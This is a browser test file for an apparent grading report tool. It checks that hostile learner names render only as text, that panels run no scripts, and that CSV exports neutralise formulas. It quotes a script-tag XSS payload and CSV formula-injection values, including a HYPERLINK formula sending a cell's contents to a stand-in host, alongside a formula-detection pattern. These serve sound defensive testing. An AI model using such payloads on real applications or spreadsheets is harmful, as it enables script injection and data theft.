/** Hostile names and evidence in a real browser: text and nothing else, here and in a spreadsheet. */
import { readFile } from 'node:fs/promises';
import { execa } from 'execa';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { plain } from '../../../../src/report/boundary.ts';
import { type HostileCohort, hostileCohort } from '../hostile-cohort.ts';
import { HOSTILE_NAMES } from '../people.ts';
import { type Pages, pagesOf } from './open.ts';
import { readTable } from './read-table.ts';

let pages: Pages;
let made: HostileCohort;

beforeAll(async () => {
  [pages, made] = await pagesOf(hostileCohort);
});
afterAll(() => pages.close());

/** What there may be in the document: nothing that loads, runs or frames. */
const OURS =
  /^(A|B|BR|BUTTON|CODE|DETAILS|DIV|FIGCAPTION|FIGURE|FORM|H1|H2|H3|HEADER|I|INPUT|LABEL|LI|MAIN|OPTION|P|SECTION|SELECT|SMALL|SPAN|STRONG|SUMMARY|TEXTAREA|UL|line|polyline|svg)$/;

test('every row is there, with the name as text', async () => {
  const { page, complaints } = await pages.open();
  const { rows } = await readTable(page);
  expect(rows.slice(0, HOSTILE_NAMES.length).map(({ name }) => name)).toEqual(
    HOSTILE_NAMES.map((name) => plain(name, { max: 120 })),
  );
  expect(rows).toHaveLength(made.truth.rows.length);
  const at = (id: string) => rows[made.truth.rows.findIndex((row) => row.id === id)]?.cells;
  expect(at(made.ids.corrupt)?.Points).toBe('no result: Its report.json is no JSON.');
  expect(at(made.ids.oversized)?.Points).toBe('no result: Its report.json is larger than 5 MB.');
  expect(at(made.ids.foreign)?.Points).toBe('no result: Its report.json is about another exercise.');
  expect(at(made.ids.stolen)?.Trust).toBe('unverified');
  expect(at(made.ids.boastful)?.Trust).toBe('unverified');
  expect(at(made.ids.boastful)?.Points).toBe('105 / 105');
  expect(at(made.ids.gone)?.Points).toMatch(/^no result: <script>window\.attacked=1<\/script>AAA/);
  expect(complaints).toEqual([]);
  await page.context().close();
});

test.each(['message', 'stolen', 'gone', 'corrupt'] as const)(
  '%s: the panel holds text only, nothing ran',
  async (deed) => {
    const { page, complaints } = await pages.open(`#open=${made.ids[deed]}`);
    await page.getByRole('dialog').waitFor();
    await page.locator('.panel details').evaluateAll((all) => {
      for (const one of all) (one as HTMLDetailsElement).open = true;
    });
    const names = await page
      .locator('body *')
      .evaluateAll((all) => [...new Set(all.map(({ tagName }) => tagName))]);
    expect(names.filter((name) => !OURS.test(name) && !['SCRIPT', 'NOSCRIPT'].includes(name))).toEqual([]);
    expect(await page.locator('script').count()).toBe(2);
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    const links = await page
      .locator('a')
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol));
    expect(links.filter((protocol) => !['https:', 'file:'].includes(protocol))).toEqual([]);
    expect(complaints).toEqual([]);
    await page.context().close();
  },
);

test('a panel fits the window, whatever is in it', async () => {
  const { page } = await pages.open(`#open=${made.ids.message}`, { viewport: { width: 390, height: 844 } });
  const wide = await page.locator('.panel').evaluate((panel) => panel.scrollWidth - panel.clientWidth);
  expect(wide).toBe(0);
  await page.context().close();
});

test('whose result was handed in twice is said', async () => {
  const { page } = await pages.open(`#open=${made.ids.stolen}`);
  const other = made.truth.rows[HOSTILE_NAMES.length + 7];
  expect(await page.locator('.trust li').allTextContents()).toEqual([
    'Another learner has handed in the very same result.',
    `The same as: ${other?.name}`,
  ]);
  await page.context().close();
});

test('no cell of the CSV is a formula', async () => {
  const { page } = await pages.open();
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'CSV' }).click(),
  ]);
  const text = await readFile(await file.path(), 'utf8');
  const script =
    'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline=""), strict=True))))';
  const read = JSON.parse((await execa('python3', ['-c', script], { input: text })).stdout) as string[][];
  expect(new Set(read.map((row) => row.length))).toEqual(new Set([read[0]?.length]));
  const cells = read.flat();
  expect(cells.filter((cell) => /^\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20|%]/.test(cell))).toEqual([]);
  const names = read.slice(1, HOSTILE_NAMES.length + 1).map((row) => row[1]);
  expect(names).toContain(`'=HYPERLINK("http://example.com/?"&A1,"open")`);
  expect(names).toContain("'-2+3");
  expect(names).toContain("'=1+1");
  expect(names).toContain('Anna "the =1+2" Bell, Jr.');
  await page.context().close();
});
